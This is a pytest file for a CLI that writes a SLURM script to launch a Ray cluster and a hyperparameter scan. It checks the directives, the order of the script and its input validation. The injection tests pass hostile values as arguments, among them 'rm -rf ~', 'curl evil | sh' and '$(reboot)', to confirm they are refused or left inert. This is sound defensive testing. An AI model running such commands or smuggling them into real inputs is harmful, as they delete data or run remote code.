"""``scanner slurm``: the script's content (Ray's SLURM pattern) and that bash can parse it."""

from __future__ import annotations

import re
import subprocess

import pytest

from scanner import cli


def _space(tmp_path, gpu=0):
    path = tmp_path / "s.yaml"
    path.write_text(
        "name: clu\ntask: classification\ndata: {path: nowhere.h5}\nobjective: {metric: val/accuracy, mode: max}\n"
        f"resources: {{cpu: 1, gpu: {gpu}, concurrent: 4}}\nfixed: {{model: small_cnn_tiny}}\n"
        "space:\n  lr: {float: [1.0e-4, 1.0e-2], log: true}\n"
    )
    return path


def test_script_follows_rays_slurm_pattern(tmp_path, capsys):
    out = tmp_path / "scan.sbatch"
    code = cli.main(["slurm", str(_space(tmp_path, gpu=0.5)), "--nodes", "3", "--gpus-per-node", "2",
                     "--partition", "gpu", "--time", "04:00:00", "--out", str(out),
                     "--tracking-uri", "http://mlflow.example:5000"])
    assert code == 0 and "sbatch" in capsys.readouterr().out
    text = out.read_text()
    directives = dict(re.findall(r"^#SBATCH --([\w-]+)=(\S+)", text, re.M))
    assert directives["nodes"] == "3" and directives["gpus-per-task"] == "2"
    assert directives["partition"] == "gpu" and directives["time"] == "04:00:00"
    head = [ln for ln in text.splitlines() if "ray start --head" in ln]
    assert len(head) == 1 and "--block" in head[0] and head[0].rstrip().endswith("&") and "--port=$port" in head[0]
    assert "--num-gpus=2" in head[0]  # Ray gets the node's GPUs, on the head as on every worker
    workers = [ln for ln in text.splitlines() if "ray start --address" in ln]
    assert len(workers) == 1 and "--num-gpus=2" in workers[0]
    assert text.index("ray start --head") < text.index("ray start --address") < text.index("scanner run")
    assert text.index("export RAY_worker_niceness=") < text.index("ray start --head")  # trials not at nice 15
    run = [ln for ln in text.splitlines() if ln.startswith("scanner run")][0]
    assert str(tmp_path / "s.yaml") in run and '--address "$address"' in run and "http://mlflow.example:5000" in run
    assert subprocess.run(["bash", "-n", str(out)]).returncode == 0


def test_gpus_asked_of_cpu_nodes_is_bad_input(tmp_path, capsys):
    code = cli.main(["slurm", str(_space(tmp_path, gpu=1)), "--nodes", "2", "--gpus-per-node", "0"])
    assert code == 2 and "resources.gpu" in capsys.readouterr().err


def test_a_trial_asking_more_gpus_than_a_node_has_is_bad_input(tmp_path, capsys):
    """4 nodes x 1 GPU make 4 GPUs, but a trial's GPUs come from one node: 2 per trial never starts."""
    out = tmp_path / "scan.sbatch"
    code = cli.main(["slurm", str(_space(tmp_path, gpu=2)), "--nodes", "4", "--gpus-per-node", "1", "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 2 and "resources.gpu" in err and len(err.strip().splitlines()) == 1
    assert not out.exists()
    assert cli.main(["slurm", str(_space(tmp_path, gpu=0.5)), "--nodes", "1", "--gpus-per-node", "1"]) == 0


@pytest.mark.parametrize(
    "flag,value",
    [
        ("--partition", "gpu\nrm -rf ~"),  # the injection: a second shell line in the script
        ("--partition", "gpu;touch /tmp/x"),
        ("--partition", "gpu long"),
        ("--time", "04:00:00\ncurl evil | sh"),
        ("--time", "$(reboot)"),
        ("--time", "4h"),
        ("--tracking-uri", "http://mlflow:5000\nrm -rf ~"),
    ],
)
def test_values_slurm_would_not_take_are_refused_in_one_line(tmp_path, capsys, flag, value):
    out = tmp_path / "scan.sbatch"
    code = cli.main(["slurm", str(_space(tmp_path)), "--nodes", "2", "--gpus-per-node", "1", flag, value,
                     "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 2 and flag in err, err
    assert len(err.strip().splitlines()) == 1  # the newline is shown escaped, not printed
    assert not out.exists()


def test_a_space_path_with_a_newline_is_refused(tmp_path, capsys):
    folder = tmp_path / "evil\nrm -rf ~"
    folder.mkdir()
    code = cli.main(["slurm", str(_space(folder)), "--nodes", "1", "--gpus-per-node", "0"])
    err = capsys.readouterr().err
    assert code == 2 and "space file" in err and len(err.strip().splitlines()) == 1


def test_accepted_values_stay_inert_in_the_script(tmp_path):
    """Partition lists, day-hour limits and a URI full of shell characters: written as SLURM and bash read them."""
    out = tmp_path / "scan.sbatch"
    uri = "http://user:p@ss$word;x@mlflow.example:5000/?a=1&b=`id`"
    assert cli.main(["slurm", str(_space(tmp_path)), "--nodes", "2", "--gpus-per-node", "1", "--partition",
                     "gpu,gpu-long", "--time", "2-12:00:00", "--tracking-uri", uri, "--out", str(out)]) == 0
    text = out.read_text()
    assert "#SBATCH --partition=gpu,gpu-long\n" in text and "#SBATCH --time=2-12:00:00\n" in text
    run = [ln for ln in text.splitlines() if ln.startswith("scanner run")][0]
    echoed = subprocess.run(["bash", "-c", run.replace("scanner run", "printf '%s\\n'", 1).replace('"$address"', "A")],
                            capture_output=True, text=True)
    assert echoed.stdout.splitlines()[-1] == uri  # bash hands the URI over untouched: nothing ran
